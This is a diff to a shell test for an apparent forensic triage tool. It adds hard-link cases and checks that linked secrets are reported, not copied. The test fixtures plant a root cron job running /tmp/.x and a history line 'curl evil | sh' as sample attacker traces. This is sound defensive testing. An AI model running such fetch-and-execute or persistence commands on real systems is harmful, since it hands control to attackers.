@@ -16,6 +16,8 @@ printf '* * * * * root /tmp/.x\n' >"$host/etc/cron.d/evil"
 printf 'curl evil | sh\n' >"$host/home/bob/.bash_history"
 ln -s "$host/secret/key" "$host/home/eve/.bash_history"
 ln -s "$host/secret" "$host/home/eve/.ssh"
+ln "$host/secret/key" "$host/home/eve/.viminfo"
+ln "$host/secret/key" "$host/tmp/deep/hard"
 printf 'ssh-ed25519 AAAA\n' >"$host/secret/authorized_keys"
 ln -s "$host/secret/key" "$host/etc/crontab"
 ln -s "$host/secret/key" "$host/tmp/link"
@@ -76,6 +78,7 @@ for shell in dash 'bash --posix' 'busybox sh'; do
     holds "$shell: no link is followed to what is not its own" bash -c '! grep -rqF secret-of-somebody-else "$1"' - got
     holds "$shell: nor a folder's" bash -c '! grep -rqF ssh-ed25519 "$1"' - got
     holds "$shell: which is told" grep -qF 'a link to ' got/triage/manifest.tsv
+    holds "$shell: nor a hard one, which is told" grep -qF 'viminfo	it has another name' got/triage/manifest.tsv
     holds "$shell: what is no regular file is told" grep -q 'zsh_history.*no regular file' got/triage/manifest.tsv
     holds "$shell: histories are there" grep -rqF 'curl evil | sh' got/triage/home
     holds "$shell: logins too" grep -rqF 'accepted for eve' got/triage/log
